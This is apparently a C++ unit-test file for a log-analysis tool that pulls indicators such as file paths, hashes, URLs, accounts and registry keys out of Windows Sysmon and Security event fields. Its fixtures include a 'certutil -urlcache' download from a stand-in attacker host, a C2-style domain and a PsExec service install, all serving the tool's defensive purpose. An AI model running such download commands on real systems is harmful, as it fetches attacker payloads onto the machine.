#include <doctest/doctest.h>

#include "konseki/traces/trace.h"
#include "made_batch.h"

using namespace konseki;
using namespace konseki::traces;

namespace {

/// `type=value` of all traces of a record with these fields, without the host of the record.
std::string traces_of(const std::vector<MadeBatch::Named>& fields) {
    MadeBatch made(0);
    made.add(0, 1, "", fields);
    Extractor extractor;
    std::string out;
    for (const Trace* const trace : extractor.extract(made.batch, made.batch.records[0]))
        out.append(out.empty() ? "" : " ")
            .append(name_of(trace->type))
            .append("=")
            .append(trace->value);
    return out;
}

}  // namespace

TEST_CASE("extract: Sysmon fields give what they hold") {
    CHECK(traces_of({{"Image", "C:\\Windows\\CMD.exe"}}) ==
          "file_path=c:\\windows\\cmd.exe file_name=cmd.exe");
    CHECK(
        traces_of(
            {{"Hashes",
              "SHA1=A9993E364706816ABA3E25717850C26C9CD0D89D,MD5=900150983CD24FB0D6963F7D28E17F72,"
              "IMPHASH=00000000000000000000000000000000"}}) ==
        "sha1=a9993e364706816aba3e25717850c26c9cd0d89d md5=900150983cd24fb0d6963f7d28e17f72");
    CHECK(traces_of({{"CommandLine", "certutil -urlcache http://evil.example.com/x"}}) ==
          "command_line=certutil -urlcache http://evil.example.com/x url=http://evil.example.com/x "
          "domain=evil.example.com");
    CHECK(traces_of({{"QueryName", "C2.Example.com"},
                     {"QueryResults", "type:  5 cdn.example.net;::ffff:198.51.100.7;"}}) ==
          "domain=c2.example.com domain=cdn.example.net ipv4=198.51.100.7");
    CHECK(
        traces_of({{"DestinationIp", "198.51.100.7"}, {"DestinationHostname", "c2.example.com"}}) ==
        "ipv4=198.51.100.7 domain=c2.example.com");
    CHECK(traces_of({{"DestinationHostname", "WS-07"}}) == "host=ws-07");
    CHECK(traces_of({{"PipeName", "\\MSSE-4321-server"}}) == "pipe=MSSE-{n}-server");
    CHECK(traces_of({{"TargetObject", "HKLM\\System\\ControlSet001\\Services\\x"},
                     {"Details", "http://a.example.com"}}) ==
          "registry_key=hkey_local_machine\\system\\currentcontrolset\\services\\x "
          "url=http://a.example.com/ "
          "domain=a.example.com");
    CHECK(traces_of({{"User", "CORP\\alice"}}) == "account=corp\\alice");
}

TEST_CASE("extract: Security fields give accounts with their domain, and never machine accounts") {
    CHECK(traces_of({{"TargetUserSid", "S-1-5-21-1-2-3-1104"},
                     {"TargetUserName", "Alice"},
                     {"TargetDomainName", "CORP"},
                     {"WorkstationName", "WS-07"},
                     {"IpAddress", "::ffff:10.0.0.5"},
                     {"IpPort", "49152"}}) ==
          "sid=S-1-5-21-1-2-3-1104 account=corp\\alice host=ws-07 ipv4=10.0.0.5");
    CHECK(traces_of({{"SubjectUserSid", "S-1-5-18"},
                     {"SubjectUserName", "DC01$"},
                     {"SubjectDomainName", "CORP"}}) == "");
    // U+4F24 and U+4E2D have the bytes of `$` and `-` in their low half.
    CHECK(traces_of({{"TargetUserName", "\u4f24"}, {"SubjectUserName", "\u4e2d"}}) ==
          "account=\u4f24 account=\u4e2d");
    CHECK(traces_of({{"TargetUserName", "alice@CORP.LOCAL"}, {"TargetDomainName", "CORP.LOCAL"}}) ==
          "account=corp.local\\alice");
    CHECK(traces_of({{"ObjectName", "\\REGISTRY\\MACHINE\\SOFTWARE\\x"}}) ==
          "registry_key=hkey_local_machine\\software\\x");
    CHECK(traces_of({{"ObjectName", "C:\\a\\b.txt"}}) == "file_path=c:\\a\\b.txt file_name=b.txt");
    CHECK(traces_of({{"ShareName", "\\\\*\\IPC$"}, {"RelativeTargetName", "svcctl"}}) ==
          "pipe=svcctl");
    CHECK(traces_of({{"ShareName", "\\\\*\\ADMIN$"}, {"RelativeTargetName", "x.exe"}}) ==
          "file_name=x.exe");
    CHECK(traces_of({{"TaskName", "\\Updater"},
                     {"TaskContent", "<Command>http://a.example.com/x</Command>"}}) ==
          "task=\\updater url=http://a.example.com/x domain=a.example.com");
}

TEST_CASE("extract: a service name is one only where the record installs a service") {
    CHECK(traces_of({{"ServiceName", "PSEXESVC"}, {"ImagePath", "%SystemRoot%\\PSEXESVC.exe"}}) ==
          "service=psexesvc command_line=%SystemRoot%\\PSEXESVC.exe");
    CHECK(traces_of({{"ServiceName", "krbtgt"}, {"ServiceSid", "S-1-5-21-1-2-3-502"}}) ==
          "sid=S-1-5-21-1-2-3-502");
}

TEST_CASE("extract: other logs and free text give what they hold") {
    CHECK(traces_of({{"ClientIP", "198.51.100.7:50270"}}) == "ipv4=198.51.100.7");
    CHECK(traces_of({{"Data", "Invoke http://evil.example.com/a mail to x@example.com"}}) ==
          "url=http://evil.example.com/a domain=evil.example.com email=x@example.com");
    CHECK(traces_of({{"Threat Name", "T"},
                     {"Path", "file:_C:\\a\\x.exe; containerfile:_C:\\a\\y.zip->z.exe"}}) ==
          "file_path=c:\\a\\x.exe file_name=x.exe file_path=c:\\a\\y.zip file_name=y.zip");
    CHECK(traces_of(
              {{"Threat Name", "T"}, {"Path", "regkey:_HKCU@S-1-5-21-1-2-3-500\\Software\\X"}}) ==
          "registry_key=hkey_current_user\\software\\x");
    CHECK(traces_of({{"Address", "020000357F0000010000000000000000"}}) == "ipv4=127.0.0.1");
    CHECK(traces_of({{"Address",
                      "1700003500000000FE800000000000000000000000000001"
                      "00000000"}}) == "ipv6=fe80::1");
    CHECK(traces_of({{"FileVersion", "1.2.3.4"}, {"LogonProcessName", "http://x.example.com"}}) ==
          "");
    CHECK(traces_of({{"SubjectUserName", "-"}, {"IpAddress", "-"}, {"Image", ""}}) == "");
}

TEST_CASE("extract: the host of the record is a trace that names the victim") {
    MadeBatch made(0);
    made.add(0, 1, "DC01.Corp.Local", {});
    Extractor extractor;
    const auto traces = extractor.extract(made.batch, made.batch.records[0]);
    REQUIRE(traces.size() == 1);
    CHECK(traces[0]->value == "dc01.corp.local");
    CHECK(traces[0]->written == "DC01.Corp.Local");
    CHECK(traces[0]->victim);
}

TEST_CASE("extract: the same bytes of another type in the domain are another account") {
    MadeBatch made(0);
    for (int i = 0; i < 2; ++i)
        made.add(0, 1, "", {{"TargetUserName", "ann"}, {"TargetDomainName", "AB"}});
    made.batch.values.back().type = 0x0e;  // the second domain: the same bytes as binary
    Extractor extractor, fresh;

    const std::string text = extractor.extract(made.batch, made.batch.records[0]).front()->value;
    const std::string binary = extractor.extract(made.batch, made.batch.records[1]).front()->value;

    CHECK(text == "ab\\ann");
    CHECK(binary == fresh.extract(made.batch, made.batch.records[1]).front()->value);
    CHECK(binary != text);
}

TEST_CASE(
    "extract: traces of a record hold when its values meet in the memory of lately seen ones") {
    // More distinct values than the memory has places: some of one record must fall on the same.
    std::vector<std::string> paths;
    for (int i = 0; i < 9'000; ++i) paths.push_back("C:\\f" + std::to_string(i) + ".exe");
    std::vector<MadeBatch::Named> fields;
    for (const std::string& path : paths) fields.push_back({"Image", path});
    MadeBatch made(0);
    made.add(0, 1, "", fields);
    Extractor extractor;

    for (int round = 0; round < 2; ++round) {
        const auto traces = extractor.extract(made.batch, made.batch.records[0]);
        REQUIRE(traces.size() == 18'000);
        for (int i = 0; i < 9'000; ++i) {
            const auto at = static_cast<std::size_t>(2 * i);
            CHECK(traces[at]->value == "c:\\f" + std::to_string(i) + ".exe");
            CHECK(traces[at + 1]->value == "f" + std::to_string(i) + ".exe");
        }
    }
}
